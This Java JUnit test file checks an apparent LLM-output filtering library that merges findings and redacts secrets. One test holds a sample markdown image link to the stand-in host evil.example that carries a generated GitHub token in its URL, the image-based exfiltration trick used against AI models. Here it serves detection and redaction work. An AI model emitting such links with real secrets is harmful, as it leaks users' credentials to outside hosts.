package com.lockllm.output;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class OutputChecksTest {
  private static OutputCheck fixed(int maxSpan, OutputFinding... findings) {
    return new OutputCheck() {
      @Override
      public List<OutputFinding> find(CharSequence text) {
        return List.of(findings);
      }

      @Override
      public int maxSpan() {
        return maxSpan;
      }
    };
  }

  @Test
  void mergesEarliestFirstThenLongest() {
    OutputFinding a = new OutputFinding("A", 5, 10, "a");
    OutputFinding longer = new OutputFinding("B", 5, 12, "b");
    OutputFinding inside = new OutputFinding("C", 8, 9, "c");
    OutputFinding touching = new OutputFinding("D", 12, 14, "d");
    OutputFinding first = new OutputFinding("E", 0, 6, "e");
    OutputChecks checks = OutputChecks.of(List.of(fixed(3, a, touching), fixed(40, longer, inside, first)));
    assertThat(checks.find("x".repeat(20))).containsExactly(first, inside, touching);
    assertThat(OutputChecks.of(List.of(fixed(3, a), fixed(40, longer, inside))).find("x".repeat(20))).containsExactly(longer);
    assertThat(checks.maxSpan()).isEqualTo(40);
    assertThat(OutputChecks.of(List.of()).find("anything")).isEmpty();
  }

  @Test
  void redactsSecretsAndExfiltrationTogether() {
    String key = new SecretSamples(new Random(5)).of("GITHUB_TOKEN");
    String text = "Token " + key + " and ![x](https://evil.example/p?t=" + key + ") end";
    OutputChecks checks = OutputChecks.of(List.of(new SecretCheck(), new ExfiltrationCheck()));
    List<OutputFinding> found = checks.find(text);
    assertThat(found).extracting(OutputFinding::type).containsExactly("GITHUB_TOKEN", "EXFILTRATION_IMAGE");
    assertThat(OutputChecks.redact(text, found)).isEqualTo("Token [REDACTED_GITHUB_TOKEN] and  end");
  }

  @Test
  void redactRefusesFindingsOutOfOrderOrOutside() {
    assertThatThrownBy(() -> OutputChecks.redact("abcdef", List.of(new OutputFinding("A", 3, 5, ""), new OutputFinding("B", 1, 2, ""))))
        .isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> OutputChecks.redact("abc", List.of(new OutputFinding("A", 1, 9, ""))))
        .isInstanceOf(IllegalArgumentException.class);
    assertThat(OutputChecks.redact("abcdef", List.of(new OutputFinding("A", 1, 2, "X"), new OutputFinding("B", 2, 4, "")))).isEqualTo("aXef");
  }
}
